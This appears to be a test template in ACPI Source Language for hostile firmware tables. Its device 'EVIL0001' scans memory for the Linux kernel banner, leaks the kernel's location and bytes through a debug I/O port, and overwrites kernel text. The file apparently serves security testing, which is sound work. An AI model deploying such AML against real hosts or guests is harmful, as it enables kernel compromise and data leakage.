// What a host's bytecode can do: find the kernel, tell what it reads through a debug port, and write into it.
// The test puts table, device, method, and the offsets of the kernel that it attacks, in place of what stands in @.
DefinitionBlock ("", "@TABLE@", 2, "EVIL  ", "BADAML  ", 1)
{
  Device (@PATH@)
  {
    Name (_HID, "EVIL0001")
    Name (_UID, @NUMBER@)
    Name (DONE, Zero)
    OperationRegion (PORT, SystemIO, 0x502, 1)
    Field (PORT, ByteAcc, NoLock, Preserve) { TELL, 8 }

    Method (READ, 1, Serialized)
    {
      OperationRegion (MEMO, SystemMemory, Arg0, 4)
      Field (MEMO, DWordAcc, NoLock, Preserve) { WORD, 32 }
      Return (WORD)
    }

    Method (RITE, 2, Serialized)
    {
      OperationRegion (MEMO, SystemMemory, Arg0, 4)
      Field (MEMO, DWordAcc, NoLock, Preserve) { WORD, 32 }
      Store (Arg1, WORD)
    }

    Method (SAY4, 1, NotSerialized)
    {
      Store (Arg0, TELL)
      Store (ShiftRight (Arg0, 8), TELL)
      Store (ShiftRight (Arg0, 16), TELL)
      Store (ShiftRight (Arg0, 24), TELL)
    }

    // Where the kernel is, the first bytes of its banner, and four letters over what it is going to say.
    Method (HURT, 0, Serialized)
    {
      If (DONE) { Return (Zero) }
      Store (One, DONE)
      SAY4 (@MARK@)
      Store (0x01000000, Local0)
      While (LLess (Local0, 0x20000000))
      {
        If (LEqual (READ (Add (Local0, @BANNER@)), 0x756e694c))  // "Linu"
        {
          SAY4 (Local0)
          Store (Zero, Local1)
          While (LLess (Local1, 16))
          {
            SAY4 (READ (Add (Local0, Add (@BANNER@, Local1))))
            Add (Local1, 4, Local1)
          }
          RITE (Add (Local0, @TEXT@), @MARK@)
          Return (Zero)
        }
        Add (Local0, 0x00200000, Local0)
      }
      Return (Zero)
    }

    Method (@METHOD@, 0, Serialized) { HURT () Return (@RETURN@) }
  }
}
